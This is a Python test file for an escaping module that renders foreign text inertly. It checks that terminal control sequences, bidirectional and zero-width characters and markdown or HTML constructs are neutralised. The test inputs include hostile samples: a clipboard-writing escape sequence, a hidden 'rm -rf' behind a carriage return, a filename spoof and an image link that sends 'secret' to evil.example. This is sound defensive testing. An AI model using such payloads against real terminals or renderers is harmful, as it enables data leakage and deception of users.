"""Foreign text is shown, and nothing in it works."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from prefect_gemini.gemini.plain import escape_terminal, one_line, plain


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("\x1b[2J\x1b]52;c;aGk=\x07", "\\x1b[2J\\x1b]52;c;aGk=\\x07"),
        ("safe\rrm -rf", "safe\\rrm -rf"),
        ("\u202egpj.exe", "\\u202egpj.exe"),
        ("a\u200bb\ufeffc", "a\\u200bb\\ufeffc"),
        ("\x9b31m", "\\x9b31m"),
        ("a\U000e0041b", "a\\U000e0041b"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("Grüße 東京 🎉", "Grüße 東京 🎉"),
    ],
)
def test_controls_are_written_out(text: str, shown: str) -> None:
    """What cannot be seen is shown; what can be read stays."""
    assert escape_terminal(text) == shown


def test_long_text_is_cut_and_counted() -> None:
    """A log line has an end."""
    assert escape_terminal("a" * 30, longest=10) == "aaaaaaaaaa … (20 more characters)"


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "<img src=https://evil.example/a.png>",
        "https://evil.example/a",
        "www.evil.example",
        "<script>alert(1)</script>",
        "me@evil.example",
        "| a | b |\n|---|---|",
        "# heading\n- list\n1. one\n===",
        "&lt;b&gt;",
        "[ref]: https://evil.example",
        "`code` **bold** ~~gone~~ $x$",
    ],
)
def test_markdown_does_nothing(text: str) -> None:
    """No link, no picture, no tag, no table, no heading."""
    shown = re.sub(r"&(#\d+|lt|gt|amp);", "", plain(text))
    assert not re.search(r"https?:|javascript:|www\.|@|<|>|(?<!\\)[\[\]|`*#_~$!(]", shown)
    assert not re.search(r"^\s*(-|=|\d+\.)", shown, re.MULTILINE)


def test_a_table_cell_is_one_line() -> None:
    """Newlines would end the row."""
    assert one_line("a\n b\r\n|c") == "a b \\|c"


@given(st.text())
def test_no_control_survives(text: str) -> None:
    """Whatever comes in, no control, bidirectional or zero-width character comes out."""
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]", plain(text))
